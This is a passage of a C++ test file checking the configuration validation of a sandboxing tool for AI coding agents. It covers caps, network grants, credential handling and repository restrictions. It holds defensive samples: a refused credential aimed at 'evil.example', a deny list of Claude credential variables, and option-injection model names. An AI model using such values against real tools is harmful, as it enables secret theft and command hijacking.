    CHECK(problems.empty());
    CHECK(config.settings().limits.cost_usd == expected);
  }
  for (const double bad :
       {std::numeric_limits<double>::quiet_NaN(), -std::numeric_limits<double>::quiet_NaN(),
        std::numeric_limits<double>::infinity(), -std::numeric_limits<double>::infinity(), -0.0, 0.0, 1e6 + 1}) {
    CHECK_THROWS_WITH_AS(Config().set_from_flag("limits.cost_usd", bad, "--cost"), ("--cost: " + allowed).c_str(),
                         Error);
  }
  // An integer given for a number is a number.
  Config config;
  config.set_from_flag("limits.cost_usd", std::int64_t{3}, "--cost");
  CHECK(config.settings().limits.cost_usd == 3.0);
}

TEST_CASE("lower-only compares every value that passes its range") {
  Config config;
  REQUIRE(merge_user(config, "[limits]\ncost_usd = 5\ntimeout = 600\n").empty());
  CHECK(merge_repo(config, "[limits]\ncost_usd = 4.99\n").empty());
  CHECK(config.settings().limits.cost_usd == 4.99);
  for (const char* raise : {"5.000001", "1000000"}) {
    const auto problems = merge_repo(config, toml_line("limits.cost_usd", raise));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
  }
  for (const char* nan : {"nan", "-nan"}) {
    const auto problems = merge_repo(config, toml_line("limits.cost_usd", nan));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::usage);
  }
  CHECK(config.settings().limits.cost_usd == 4.99);
  // Out of range is malformed (exit 2), not a widening (exit 3), and not applied.
  const auto problems = merge_repo(config, toml_line("limits.timeout", "9223372036854775807"));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::usage);
  CHECK(config.settings().limits.timeout.count() == 600);
}

TEST_CASE("strings have a size cap") {
  const Config defaults;
  for (const auto& [key, entry] : defaults.entries()) {
    if (!std::holds_alternative<std::string>(entry.value)) continue;
    bool listed = false;
    for (const auto& cap : string_caps()) listed = listed || key == cap.first;
    CHECK_MESSAGE(listed, key << " has no cap test");
  }
  for (const auto& [key, cap] : string_caps()) {
    INFO("key: " << key);
    // run.executor, sandbox.history, sandbox.work_tree, sandbox.cgroup,
    // sandbox.disk_cap and dispatch.engine take a few words (or a path) only; their cap still
    // comes first.
    if (std::string(key) != "run.executor" && std::string(key) != "sandbox.history" &&
        std::string(key) != "sandbox.work_tree" && std::string(key) != "sandbox.cgroup" &&
        std::string(key) != "sandbox.disk_cap" && std::string(key) != "dispatch.engine") {
      Config config;
      const auto problems = merge_user(config, toml_line(key, quoted(std::string(cap, 'x'))));
      INFO(messages(problems));
      CHECK(problems.empty());
      CHECK(std::get<std::string>(config.entry(key).value).size() == cap);
      CHECK_NOTHROW(Config().set_from_flag(key, std::string(cap, 'x'), "--flag"));
    }
    const std::string over =
        "is " + std::to_string(cap + 1) + " bytes long; at most " + std::to_string(cap) + " are allowed";
    expect_one_usage_problem(toml_line(key, quoted(std::string(cap + 1, 'x'))), {"user.toml:2", key, over});
    CHECK_THROWS_WITH_AS(Config().set_from_flag(key, std::string(cap + 1, 'x'), "--flag"), ("--flag: " + over).c_str(),
                         Error);
  }
}

TEST_CASE("lists have an item count and an item size cap") {
  const Config defaults;
  for (const auto& [key, entry] : defaults.entries()) {
    if (!std::holds_alternative<Strings>(entry.value)) continue;
    INFO("key: " << key);
    // Items each key's own check accepts.
    const std::string item = key == "sandbox.env" ? "NAME_" : key.rfind("network.", 0) == 0 ? "host" : "x";
    const std::string port = key.rfind("network.", 0) == 0 ? ":1" : "";
    const auto make = [&](std::size_t count) {
      std::string text = "[";
      for (std::size_t i = 0; i < count; ++i) text += (i == 0 ? "" : ", ") + quoted(item + std::to_string(i) + port);
      return text + "]";
    };
    {
      Config config;
      const auto problems = merge_user(config, toml_line(key, make(256)));
      INFO(messages(problems));
      CHECK(problems.empty());
      CHECK(std::get<Strings>(config.entry(key).value).size() == 256);
    }
    expect_one_usage_problem(toml_line(key, make(257)), {"user.toml:2", key, "has 257 items; at most 256"});
    const std::string longest = std::string(4096 - port.size() - 1, 'A') + "0" + port;
    // A grant's host name is capped lower (253 bytes) by the grant grammar.
    if (port.empty()) {
      Config config;
      const auto problems = merge_user(config, toml_line(key, "[" + quoted(longest) + "]"));
      INFO(messages(problems));
      CHECK(problems.empty());
    }
    expect_one_usage_problem(toml_line(key, "[" + quoted("A" + longest) + "]"),
                             {"user.toml:2", key, "has an item 4097 bytes long; at most 4096"});
    CHECK_THROWS_AS(Config().set_from_flag(key, Strings(257, item + "0" + port), "--flag"), Error);
  }
}

TEST_CASE("gates have a timeout range, size caps and a count cap") {
  using mullet::config::check_gate;
  using mullet::config::Gate;
  CHECK(check_gate(Gate{"n", "make", 0, "--gate"}).empty());  // 0: the phase limit applies
  CHECK(check_gate(Gate{"n", "make", 2592000, "x"}).empty());
  CHECK(contains(check_gate(Gate{"n", "make", 2592001, "x"}), "timeout must be from 1 to 2592000"));
  CHECK(contains(check_gate(Gate{"n", "make", -1, "x"}), "timeout must be from 1 to 2592000"));
  CHECK(contains(check_gate(Gate{"n", "make", int64_max, "x"}), "timeout"));
  CHECK(check_gate(Gate{"n", std::string(65536, 'x'), 0, "x"}).empty());
  CHECK(contains(check_gate(Gate{"n", std::string(65537, 'x'), 0, "x"}), "65537 bytes long; at most 65536"));
  CHECK(check_gate(Gate{std::string(4096, 'n'), "make", 0, "x"}).empty());
  CHECK(contains(check_gate(Gate{std::string(4097, 'n'), "make", 0, "x"}), "name is 4097 bytes long"));
  CHECK(contains(check_gate(Gate{"n", "", 0, "x"}), "needs a command"));

  for (const char* bad : {"9223372036854775807", "2592001", "-1", "nan", "inf", "1.5"}) {
    expect_one_usage_problem(std::string("[[gate]]\ncommand = \"make\"\ntimeout = ") + bad + "\n",
                             {"user.toml:3", "gate.timeout", "must be an integer from 1 to 2592000"});
  }
  expect_one_usage_problem("[[gate]]\ncommand = \"" + std::string(65537, 'x') + "\"\n",
                           {"user.toml:1", "gate", "65537 bytes long"});
  {
    Config config;
    const auto problems = merge_user(config, repeat("[[gate]]\ncommand = \"true\"\n", 256));
    CHECK(problems.empty());
    CHECK(config.gates().size() == 256);
    const auto more = merge_repo(config, "[[gate]]\ncommand = \"true\"\n");
    REQUIRE(more.size() == 1);
    CHECK(contains(more[0].message, "at most 256 gates"));
    CHECK(config.gates().size() == 256);
  }
}

TEST_CASE("nesting is capped before toml++ parses") {
  const std::vector<std::string> forms = {
      "header", "array of tables",        "dotted key", "header and dotted key", "inline table",
      "array",  "arrays of inline tables"};
  for (const auto& form : forms) {
    INFO("form: " << form);
    for (const std::size_t depth : {std::size_t{3}, std::size_t{16}}) {
      Config config;
      const auto problems = merge_user(config, nested(form, depth));
      INFO(nested(form, depth) << messages(problems));
      CHECK_FALSE(has_problem_with(problems, "nested"));
    }
    for (const std::size_t depth : {std::size_t{17}, std::size_t{18}, std::size_t{100000}}) {
      Config config;
      const auto problems = merge_user(config, nested(form, depth));
      INFO("depth " << depth << ": " << messages(problems));
      REQUIRE(problems.size() == 1);
      CHECK(problems[0].severity == ExitCode::usage);
      CHECK(contains(problems[0].message, "user.toml:"));
      CHECK(contains(problems[0].message, "nested more than 16 levels deep"));
    }
  }
  // A multi-line string may end with one or two quotes inside its closing
  // delimiter; they do not open a string that hides the rest of the line.
  for (const std::string closed : {R"("""a"""")", R"("""a""""")", "'''a''''", "'''a'''''"}) {
    for (const std::size_t depth : {std::size_t{17}, std::size_t{100000}}) {
      Config config;
      const std::string text = "x = [" + closed + ", {" + repeat("a.", depth) + "a = 1}]\n";
      const auto problems = merge_user(config, text);
      INFO(closed << " depth " << depth << ": " << messages(problems));
      REQUIRE(problems.size() == 1);
      CHECK(contains(problems[0].message, "nested more than 16 levels deep"));
    }
  }
  // The line where it happens, after a valid start.
  expect_one_usage_problem("[limits]\ntimeout = 5\n\n" + nested("dotted key", 17), {"user.toml:4:", "nested"});
  // Brackets, braces and dots in strings and comments are not nesting, nor is width.
  for (const std::string& text :
       {"[run]\nsetup = \"" + repeat("[{.", 100) + "\"\n", "[run]\nsetup = '" + repeat("[{.", 100) + "'\n",
        "[run]\nsetup = \"\"\"\n" + repeat("[{.\"\n", 100) + "\"\"\"\n",
        "[run]\nsetup = '''\n" + repeat("[{.'\n", 100) + "'''\n", "[run]\nsetup = \"\\\"" + repeat("[", 100) + "\"\n",
        "# " + repeat("[a.", 100) + "\n[run]\nsetup = \"x\"\n",
        "[run]\ndependency_dirs = [" + repeat("\"a.b\", ", 200) + "\"c\"]\n",
        "[\"" + repeat("a.", 100) + "\"]\nx = 1\n", "\"" + repeat("a.", 100) + "\" = 1\n",
        "x = [" + repeat("[1, [2]], ", 1000) + "3]\n", std::string("[run]\nsetup = \"\"\"a\"\"\"\"\"\n"),
        std::string("[run]\nsetup = '''a'''''\n"), "x = {" + repeat("a.b = 1, ", 1) + "c = {d = [1, {e = 2}]}}\n",
        repeat("[[gate]]\ncommand = \"a.b.c\"\ntimeout = 5\n", 200)}) {
    Config config;
    const auto problems = merge_user(config, text);
    INFO(text.substr(0, 200) << "\n" << messages(problems));
    CHECK_FALSE(has_problem_with(problems, "nested"));
  }
}

TEST_CASE("a configuration document is capped at 1 MiB") {
  std::string at_cap = "[run]\nsetup = \"x\"\n";
  at_cap += std::string(mullet::config::max_file_bytes - at_cap.size() - 1, '#') + "\n";
  REQUIRE(at_cap.size() == mullet::config::max_file_bytes);
  {
    Config config;
    const auto problems = merge_user(config, at_cap);
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.settings().run.setup == "x");
  }
  expect_one_usage_problem(at_cap + "\n", {"user.toml: is 1048577 bytes long; at most 1048576"});
}

TEST_CASE("a repository may name a host name the user's list covers, in any case, with or without the dot") {
  Config config;
  REQUIRE(
      merge_user(config, "[network]\nworker = [\"Api.Example.com:443\", \"127.0.0.1:80\"]\nsetup = [\"*\"]\n").empty());
  const auto problems = merge_repo(
      config, "[network]\nworker = [\"api.example.COM.:443\"]\nsetup = [\"*\", \"registry.npmjs.org:443\"]\n");
  INFO(messages(problems));
  CHECK(problems.empty());
  CHECK(config.settings().network.worker == Strings{"api.example.COM.:443"});
  CHECK(config.settings().network.setup == Strings{"*", "registry.npmjs.org:443"});
  // Another port of a listed name is another destination.
  Config other;
  REQUIRE(merge_user(other, "[network]\nworker = [\"api.example.com:443\"]\n").empty());
  const auto refused = merge_repo(other, "[network]\nworker = [\"api.example.com:80\"]\n");
  REQUIRE(refused.size() == 1);
  CHECK(refused[0].severity == ExitCode::refused);
}

TEST_CASE("the user's config is read with the same grammar: no unbracketed IPv6, no odd IPv4") {
  for (const char* item :
       {"::ffff:127.0.0.1:8080", "127.1:80", "0x7f000001:80", "exa_mple.com:443", "a.example:0443"}) {
    INFO(item);
    expect_one_usage_problem(std::string("[network]\nworker = [\"") + item + "\"]\n", {"network.worker", item});
  }
  expect_one_usage_problem("[network]\nworker = [\"::1:80\"]\n", {"brackets"});
}

TEST_CASE("[[credential]] tables become the user's credentials") {
  Config config;
  const auto problems = merge_user(config, R"([claude]
credential = "gateway"

[[credential]]
name = "anthropic"
base_url = "https://api.anthropic.com"
env = "MY_ANTHROPIC_KEY"

[[credential]]
name = "gateway"
base_url = "http://127.0.0.1:8080/anthropic"
header = "Authorization"
format = "Bearer {}"
command = ["pass", "show", "gateway"]
ca_file = "/etc/ssl/gateway.pem"
)");
  INFO(messages(problems));
  REQUIRE(problems.empty());
  const auto settings = config.settings();
  CHECK(settings.claude.credential == "gateway");
  REQUIRE(settings.credentials.size() == 2);
  CHECK(settings.credentials[0].name == "anthropic");
  CHECK(settings.credentials[0].header == "x-api-key");
  CHECK(settings.credentials[0].format == "{}");
  CHECK(settings.credentials[0].env == "MY_ANTHROPIC_KEY");
  CHECK(settings.credentials[0].command.empty());
  CHECK(settings.credentials[0].origin == "user.toml:4");
  CHECK(settings.credentials[1].command == Strings{"pass", "show", "gateway"});
  CHECK(settings.credentials[1].header == "Authorization");
  CHECK(settings.credentials[1].ca_file == "/etc/ssl/gateway.pem");
}

TEST_CASE("[[credential]] problems") {
  const std::string https = "base_url = \"https://api.example.com\"\n";
  expect_one_usage_problem("[[credential]]\nname = \"a\"\n" + https, {"user.toml:1", "exactly one of env"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\ncommand = [\"x\"]\n" + https,
                           {"exactly one of env"});
  expect_one_usage_problem("[[credential]]\nenv = \"K\"\n" + https, {"needs a name"});
  expect_one_usage_problem("[[credential]]\nname = \"a b\"\nenv = \"K\"\n" + https, {"needs a name"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\n", {"needs a base_url"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\nbase_url = \"ftp://x.example\"\n", {"base_url"});
  // http only to this machine or a private address: a key in the clear
  // over the internet is refused.
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\nbase_url = \"http://api.example.com\"\n",
                           {"in the clear"});
  for (const char* local : {"http://127.0.0.1:8080", "http://localhost:4000/v1", "http://10.1.2.3", "http://[::1]:9"}) {
    Config config;
    const auto problems =
        merge_user(config, "[[credential]]\nname = \"a\"\nenv = \"K\"\nbase_url = \"" + std::string(local) + "\"\n");
    INFO(local << ": " << messages(problems));
    CHECK(problems.empty());
  }
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\nformat = \"Bearer\"\n" + https,
                           {"header/format"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\nheader = \"x api key\"\n" + https,
                           {"header/format"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"1K\"\n" + https, {"env"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\ncommand = []\n" + https, {"non-empty list"});
  expect_one_usage_problem("[[credential]]\nname = \"a\"\nenv = \"K\"\nsecret = \"x\"\n" + https, {"unknown key"});
  expect_one_usage_problem(
      "[[credential]]\nname = \"a\"\nenv = \"K\"\n" + https + "[[credential]]\nname = \"a\"\nenv = \"L\"\n" + https,
      {"another [[credential]] is named 'a'"});
  expect_one_usage_problem("credential = 1\n", {"array of tables"});
}

TEST_CASE("a repository file may not hold credentials") {
  Config config;
  const auto problems =
      merge_repo(config, "[[credential]]\nname = \"a\"\nenv = \"K\"\nbase_url = \"https://evil.example\"\n");
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::refused);
  CHECK(contains(problems[0].message, "user config only"));
  CHECK(config.settings().credentials.empty());
}

TEST_CASE("[sandbox] env may not let Claude Code's credential variables in") {
  for (const char* name : {"ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "CLAUDE_CODE_OAUTH_TOKEN",
                           "CLAUDE_CODE_API_KEY_FILE_DESCRIPTOR"}) {
    INFO(name);
    expect_one_usage_problem("[sandbox]\nenv = [\"GOFLAGS\", \"" + std::string(name) + "\"]\n",
                             {"sandbox.env", name, "credential endpoint"});
    CHECK_THROWS_AS(Config().set_from_flag("sandbox.env", Strings{name}, "--flag"), Error);
  }
}

TEST_CASE("a model name is printable ASCII without spaces, not an option, at most 256 bytes") {
  using mullet::config::check_model_name;
  for (const char* good : {"", "sonnet", "claude-opus-4-1-20250805", "anthropic/claude-sonnet-4-5",
                           "openrouter/meta-llama/llama-3.1-70b:free", "us.anthropic.claude-3-5-sonnet-v2:0"}) {
    INFO(good);
    CHECK(check_model_name(good).empty());
    CHECK_NOTHROW(Config().set_from_flag("claude.model", std::string(good), "--model"));
  }
  CHECK(contains(check_model_name("-p"), "may not start with '-'"));
  CHECK(contains(check_model_name("--settings=/tmp/x"), "may not start with '-'"));
  for (const std::string& bad : Strings{"a b", "a\tb", "a\nb", "a\x1b[2Jb", "caf\xc3\xa9"}) {
    CHECK(contains(check_model_name(bad), "printable ASCII"));
    CHECK_THROWS_AS(Config().set_from_flag("opencode.model", bad, "--model"), Error);
  }
  CHECK(contains(check_model_name(std::string(257, 'm')), "at most 256"));
  expect_one_usage_problem("[claude]\nmodel = \"-x\"\n", {"user.toml:2", "claude.model", "may not start with '-'"});
  expect_one_usage_problem("[opencode]\nmodel = \"a b\"\n", {"user.toml:2", "opencode.model", "printable"});
}

TEST_CASE("the repository file may set no user-only key, each refused by name") {
  const Config defaults;
  const auto keys = mullet::config::user_only_keys();
  CHECK(std::find(keys.begin(), keys.end(), "claude.model") != keys.end());
  CHECK(std::find(keys.begin(), keys.end(), "opencode.model") != keys.end());
  CHECK(std::find(keys.begin(), keys.end(), "run.max_attempts") != keys.end());
  for (const auto& key : keys) {
    INFO("key: " << key);
    CHECK(mullet::config::is_user_only(key));
    // Even the value the user already has: the repository may not name it.
    const auto& value = defaults.entry(key).value;
    std::string text = "[]";
    if (const auto* word = std::get_if<std::string>(&value)) text = quoted(*word);
    if (const auto* number = std::get_if<std::int64_t>(&value)) text = std::to_string(*number);
    Config config;
    const auto problems = merge_repo(config, toml_line(key, text));
    INFO(messages(problems));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(contains(problems[0].message, key + ": the repository's .mullet.toml may not set this"));
    CHECK(config.entry(key).source == Source::built_in);
  }
  CHECK_FALSE(mullet::config::is_user_only("run.attempts"));
  CHECK_FALSE(mullet::config::is_user_only("no.such_key"));
}

TEST_CASE("[run] max_attempts lets the repository file raise attempts up to it") {
  Config config;
  SUBCASE("cap 0 (the default): the repository may only lower attempts") {
    const auto problems = merge_repo(config, "[run]\nattempts = 2\n");
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(contains(problems[0].message, "may only lower this limit (yours is 1)"));
    CHECK(contains(problems[0].message, "your user config's [run] max_attempts may let a repository raise it"));
    CHECK(config.settings().run.attempts == 1);
  }
  SUBCASE("cap 3: the repository asks 2 and gets 2") {
    REQUIRE(merge_user(config, "[run]\nmax_attempts = 3\n").empty());
    CHECK(merge_repo(config, "[run]\nattempts = 2\n").empty());
    CHECK(config.settings().run.attempts == 2);
    CHECK(config.entry("run.attempts").source == Source::repo_file);
    CHECK(config.entry("run.attempts").origin == ".mullet.toml@abc:2");
    CHECK(config.warnings().empty());
  }
  SUBCASE("cap 3: the repository asks 5 and gets 3, with a warning") {
    REQUIRE(merge_user(config, "[run]\nmax_attempts = 3\n").empty());
    const auto problems = merge_repo(config, "[run]\nattempts = 5\n");
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.settings().run.attempts == 3);
    CHECK(config.entry("run.attempts").source == Source::repo_file);
    CHECK(contains(config.entry("run.attempts").origin, "asks 5; capped by your [run] max_attempts"));
    REQUIRE(config.warnings().size() == 1);
    CHECK(contains(config.warnings()[0], ".mullet.toml@abc:2: run.attempts"));
    CHECK(contains(config.warnings()[0], "asks for 5; your [run] max_attempts caps it at 3"));
    // `config` shows it beside the value, as valid TOML.
    CHECK(
        contains(config.describe(), "attempts = 3  # .mullet.toml@abc:2 (asks 5; capped by your [run] max_attempts)"));
  }
  SUBCASE("your own attempts are never capped: above the cap, the repository may go up to yours") {
    REQUIRE(merge_user(config, "[run]\nattempts = 5\nmax_attempts = 3\n").empty());
    Config asks_four = config;
    CHECK(merge_repo(asks_four, "[run]\nattempts = 4\n").empty());
    CHECK(asks_four.settings().run.attempts == 4);
    CHECK(asks_four.warnings().empty());
    CHECK(merge_repo(config, "[run]\nattempts = 9\n").empty());
    CHECK(config.settings().run.attempts == 5);
    CHECK(config.warnings().size() == 1);
  }
  SUBCASE("--attempts is never capped") {
    REQUIRE(merge_user(config, "[run]\nmax_attempts = 3\n").empty());
    config.set_from_flag("run.attempts", std::int64_t{10}, "--attempts");
    CHECK(config.settings().run.attempts == 10);
  }
  SUBCASE("the repository may not set the cap") {
    const auto problems = merge_repo(config, "[run]\nmax_attempts = 100\nattempts = 2\n");
    CHECK(find_problem(problems, {"run.max_attempts", "may not set this"}) != nullptr);
    CHECK(find_problem(problems, {"run.attempts", "may only lower"}) != nullptr);
  }
}

// A key of a few words (or a path): each of `good` merges from the user
// config and `settles` checks the setting it made; each of `bad` is one
// usage problem naming the key and `expected`.
template <typename Settles>
void check_words(const std::string& key, const Strings& good, const Strings& bad, const std::string& expected,
                 Settles settles) {
  for (const auto& word : good) {
    Config config;
    const auto problems = merge_user(config, toml_line(key, quoted(word)));
    INFO(messages(problems));
    CHECK(problems.empty());
    settles(config.settings(), word);
  }
  for (const auto& word : bad) {
    INFO("value: " << word);
    expect_one_usage_problem(toml_line(key, quoted(word)), {"user.toml:2", key, expected});
  }
}

TEST_CASE("[sandbox] disk_cap: auto or off, from the user config only") {
  using mullet::config::DiskCap;
  CHECK(Config().settings().sandbox.disk_cap == DiskCap::automatic);
  check_words("sandbox.disk_cap", {"auto", "off"}, {"", "on", "kernel", "Off"}, "must be auto or off",
              [](const mullet::config::Settings& settings, const std::string& word) {
                CHECK(settings.sandbox.disk_cap == (word == "off" ? DiskCap::off : DiskCap::automatic));
              });
  // A repository may not weaken the cap to the watch.
  Config config;
  const auto problems = merge_repo(config, toml_line("sandbox.disk_cap", quoted(std::string("off"))));
  INFO(messages(problems));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::refused);
  CHECK(config.settings().sandbox.disk_cap == DiskCap::automatic);
}

TEST_CASE("[sandbox] cgroup: auto, off or an absolute path, from the user config only") {
  CHECK(Config().settings().sandbox.cgroup == "auto");
  check_words("sandbox.cgroup", {"auto", "off", "/sys/fs/cgroup/user.slice/mine"}, {"", "on", "relative/dir", "Off"},
              "must be auto, off or an absolute path",
              [](const mullet::config::Settings& settings, const std::string& word) {
                CHECK(settings.sandbox.cgroup == word);
              });
  // A repository may not turn the kernel's limits off (nor point them elsewhere).
  for (const std::string word : {"off", "/sys/fs/cgroup"}) {
    Config config;
    const auto problems = merge_repo(config, toml_line("sandbox.cgroup", quoted(word)));
    INFO(messages(problems));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(config.settings().sandbox.cgroup == "auto");
  }
}
